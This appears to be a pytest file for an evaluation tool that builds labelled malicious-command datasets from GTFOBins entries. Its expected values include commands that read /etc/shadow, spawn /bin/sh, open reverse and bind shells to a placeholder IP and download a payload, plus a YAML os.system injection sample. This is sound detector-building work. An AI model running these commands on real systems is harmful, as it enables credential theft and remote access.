"""GTFOBins, its placeholders, and the building of datasets."""

from pathlib import Path

import pytest

from evalake.core.errors import SourceError
from evalake.sdk import Dataset
from evalake.sdk.dataset import summary
from evalake.sdk.sample import Seen
from evalake.suites.command_guard.sources import (
    CommandDatasetBuilder,
    Material,
    make_concrete,
    read_dataset,
)
from tests.cases import cases_beside
from tests.unit.suites.command_guard.sources.datasets import left_out

# GTFOBins checkouts of both eras, hand-made, with everything that can be wrong in one; and the real one.

NEW, OLD = (Path(__file__).with_name(name).read_text(encoding="utf-8") for name in ("pack.yml", "unpack.md"))


def checkout(folder: Path, **files: str | bytes) -> str:
    (folder / "_gtfobins").mkdir()
    for name, content in files.items():
        path = folder / "_gtfobins" / name.replace("__", ".")
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return str(folder)


def read(folder: Path, **files: str | bytes) -> Dataset:
    return read_dataset(checkout(folder, **files))


GOOD = "---\nfunctions:\n  command:\n  - code: good\n...\n"


def test_the_schema_since_2025(tmp_path: Path) -> None:
    dataset = read(tmp_path, pack=NEW, packet="---\nalias: pack\n...\n")
    assert [(sample.category, sample.input) for sample in dataset.samples] == [
        ("file-read", "pack -o - /etc/shadow"),
        ("file-read", "pack --script '/tmp/temp-file'"),
        ("file-read", "pack --no-contexts"),
        ("shell", "pack --edit\n!/bin/sh"),
    ]
    assert {(sample.label, sample.dataset, sample.suite) for sample in dataset.samples} == {
        ("malicious", "gtfobins", "command_guard")
    }
    assert left_out(dataset) == {
        "variant for another context": 1,
        "function outside the eight": 2,
        "alias of another binary": 1,
    }
    assert all(left.payload is None for left in dataset.skipped)


def test_the_schema_until_2025(tmp_path: Path) -> None:
    dataset = read(tmp_path, unpack__md=OLD)
    assert [(sample.category, sample.input) for sample in dataset.samples] == [
        ("shell", "TF=$(mktemp)\nunpack $TF"),
        ("reverse-shell", "export RHOST=192.0.2.10\nexport RPORT=4444\nunpack -c 'connect($RHOST,$RPORT)'"),
        ("bind-shell", "LPORT=4444\nunpack -l $LPORT"),
        ("upload", 'LFILE=/etc/shadow && unpack -u "$LFILE"'),
        ("download", "URL=http://192.0.2.10/payload\nLFILE=/etc/passwd\nunpack $URL -o $LFILE"),
    ]
    assert left_out(dataset) == {"function outside the eight": 5}


def test_identities_name_binary_function_and_command_and_stay(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = read(tmp_path / "a", unpack__md=OLD, pack=NEW)
    again = read(tmp_path / "b", unpack=OLD, pack__md=NEW.replace("\n", "\r\n"))
    assert first.samples[0].sample_id == "gtfobins/pack_file-read_229a4334"
    assert first.samples == again.samples
    assert first.version == again.version
    assert len({sample.sample_id for sample in first.samples}) == len(first.samples)


def test_equal_commands_are_taken_once_the_first_of_them(tmp_path: Path) -> None:
    entry = "---\nfunctions:\n  {}:\n  - code: same /path/to/input-file\n  - code: same /etc/shadow\n"
    dataset = read(tmp_path, b=entry.format("file-read"), a=entry.format("upload"))
    assert [(sample.sample_id.split("_")[0], sample.category) for sample in dataset.samples] == [
        ("gtfobins/a", "upload")
    ]
    assert left_out(dataset) == {"duplicate": 3}


UNSTORABLE = "not storable text (invalid Unicode or NUL)"
MALFORMED = {
    "prose": (b"# pack\n\nIt packs.\n", "no YAML front matter"),
    "not UTF-8": (b"---\nfunctions:\n  shell:\n  - code: \xff\n", "not UTF-8 text"),
    "NUL": (b"---\nfunctions:\n  shell:\n  - code: a\x00b\n", "invalid YAML"),
    "escaped NUL": (b'---\nfunctions:\n  shell:\n  - code: "a\\0b"\n', UNSTORABLE),
    "escaped surrogate": (
        b'---\nfunctions:\n  shell:\n  - code: "\\uD800"\n',
        "not storable text (invalid Unicode or NUL)",
    ),
    "no such character": (b'---\nfunctions:\n  shell:\n  - code: "\\UFFFFFFFF"\n', "invalid YAML"),
    "broken mapping": (
        b"---\nfunctions:\n  shell:\n    - code: a\n  capabilities\n   - code: b\n---\n",
        "invalid YAML",
    ),
    "unhashable key": (b"---\n? [a, b]\n: c\n", "invalid YAML"),
    "unknown tag": (b"---\nfunctions: !!python/object/apply:os.system [id]\n", "unexpected structure"),
    "deep nesting": (b"---\n" + b"[" * 100_000, "invalid YAML"),
    "deep sequence": (b"---\n" + b"- " * 20_000, "invalid YAML"),
    "a list": (b"---\n- shell\n", "unexpected structure"),
    "empty front matter": (b"---\n---\n", "unexpected structure"),
    "no functions": (b"---\ndescription: none\n---\n", "unexpected structure"),
    "functions in a list": (b"---\nfunctions: [shell]\n", "unexpected structure"),
    "function without entries": (b"---\nfunctions:\n  shell:\n", "unexpected structure"),
    "entry of text": (b"---\nfunctions:\n  shell: [pack]\n", "unexpected structure"),
    "entry without code": (b"---\nfunctions:\n  shell:\n  - comment: none\n", "no command"),
    "blank code": (b"---\nfunctions:\n  shell:\n  - code: |\n\n\n    contexts:\n", "no command"),
    "code in a list": (b"---\nfunctions:\n  shell:\n  - code: [a, b]\n", "no command"),
    "huge file": (b"---\n" + b"# more\n" * 200_000, "file too large"),
    "huge command": (b"---\nfunctions:\n  shell:\n  - code: " + b"a" * 200_000, "command too long"),
}


@pytest.mark.slow
@pytest.mark.parametrize(("content", "reason"), MALFORMED.values(), ids=MALFORMED)
def test_what_is_malformed_is_kept_for_quarantine_and_the_rest_goes_on(
    tmp_path: Path, content: bytes, reason: str
) -> None:
    dataset = read(tmp_path, broken=content, good=GOOD)
    assert [sample.input for sample in dataset.samples] == ["good"]
    (left,) = dataset.skipped
    assert (left.reason, left.where.split("#")[0]) == (reason, "_gtfobins/broken")
    assert left.payload is not None
    left.payload.encode("utf-8")
    assert "\x00" not in left.payload
    assert len(left.payload) < 10_100


def test_aliases_of_yaml_cannot_blow_up(tmp_path: Path) -> None:
    levels = "".join(f"x{i}: &x{i} [{', '.join([f'*x{i - 1}'] * 10)}]\n" for i in range(1, 12))
    bomb = f"---\nx0: &x0 [boom]\n{levels}functions:\n  shell: *x11\n"
    dataset = read(tmp_path, bomb=bomb, good=GOOD)
    assert left_out(dataset) == {"invalid YAML": 1}


def test_a_refused_entry_is_kept_without_its_file(tmp_path: Path) -> None:
    dataset = read(tmp_path, odd="---\nfunctions:\n  shell:\n  - a\n  - {comment: b}\n" + "  - a\n" * 100, good=GOOD)
    assert {each.payload for each in dataset.skipped} == {'"a"', '{"comment": "b"}'}


def test_values_that_yaml_would_make_something_else_of_stay_commands(tmp_path: Path) -> None:
    codes = ["yes", "1e3", "2020-01-01", "null", "~", "0x1f", "<<"]
    entries = "".join(f"  - code: {code}\n" for code in codes)
    dataset = read(tmp_path, odd=f"---\nfunctions:\n  shell:\n{entries}...\nbody: ignored\n: : :\n")
    assert [sample.input for sample in dataset.samples] == codes


def test_byte_order_mark_and_line_ends_do_not_matter(tmp_path: Path) -> None:
    dataset = read(tmp_path, marked=b"\xef\xbb\xbf" + NEW.replace("\n", "\r\n").encode())
    assert dataset.samples[3].input == "pack --edit\n!/bin/sh"


def test_hidden_files_and_folders_are_no_binaries(tmp_path: Path) -> None:
    source = checkout(tmp_path, good=GOOD, __hidden="x")
    (tmp_path / "_gtfobins" / "folder").mkdir()
    assert left_out(read_dataset(source)) == {"hidden file or folder": 2}


def test_a_checkout_without_commands_says_what_it_holds(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match=r"no command that can be used \(1 x alias of another binary\)"):
        read(tmp_path, packet="---\nalias: pack\n...\n")


def test_a_folder_that_is_no_checkout_is_refused(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="holds no _gtfobins folder: give the root of a GTFOBins checkout"):
        read_dataset(str(tmp_path))


@pytest.mark.real_data
def test_the_real_checkout_is_read_whole(real_data: Path) -> None:
    dataset = read_dataset(str(real_data / "gtfobins"))
    assert summary(dataset).samples == {
        "bind-shell": 7,
        "command": 37,
        "download": 34,
        "file-read": 211,
        "file-write": 92,
        "reverse-shell": 20,
        "shell": 270,
        "upload": 38,
    }
    assert summary(dataset).skipped == {
        "alias of another binary": 20,
        "duplicate": 7,
        "function outside the eight": 106,
        "variant for another context": 100,
    }
    assert all(left.payload is None for left in dataset.skipped)
    assert len({sample.sample_id for sample in dataset.samples}) == len(dataset.samples)
    assert not [s.input for s in dataset.samples if "/path/to/" in s.input or "attacker.com" in s.input]


# Placeholders become what an intruder would put there, and concrete commands stay as they are.

CONCRETE = cases_beside(__file__)["placeholders"]


@pytest.mark.parametrize(("category", "template", "command"), CONCRETE)
def test_placeholders_become_concrete(category: str, template: str, command: str) -> None:
    assert make_concrete(template, category) == command
    assert make_concrete(command, category) == command


# What a source says of a command becomes a sample, or is left out for the first reason that there is.

HARMLESS = Material("ls", "harmless", raw="as it stood")
MALICIOUS = Material("cat /etc/shadow", "malicious", "file-read", cluster="cat", name="cat_file-read")


def built(*materials: Material) -> CommandDatasetBuilder:
    builder = CommandDatasetBuilder("mine")
    for place, material in enumerate(materials):
        builder.add_material(f"line {place}", material)
    return builder


def test_a_command_becomes_a_sample_named_by_what_it_is_and_its_digest() -> None:
    (harmless, malicious) = built(HARMLESS, MALICIOUS).result().samples
    assert (harmless.suite, harmless.dataset, harmless.input, harmless.category) == (
        "command_guard", "mine", "ls", None
    )  # fmt: skip
    assert harmless.sample_id.startswith("mine/")
    assert malicious.sample_id == "mine/cat_file-read_71a8bd3f"
    assert (malicious.label, malicious.category, malicious.cluster) == ("malicious", "file-read", "cat")


def test_a_digest_that_is_taken_grows() -> None:
    taken = Seen()
    taken.add("mine/cat_file-read_71a8bd3f")
    builder = CommandDatasetBuilder("mine", ids=taken)
    builder.add_material("line 1", MALICIOUS)
    (sample,) = builder.samples
    assert sample.sample_id.startswith("mine/cat_file-read_71a8bd3f")
    assert len(sample.sample_id) == len("mine/cat_file-read_") + 16
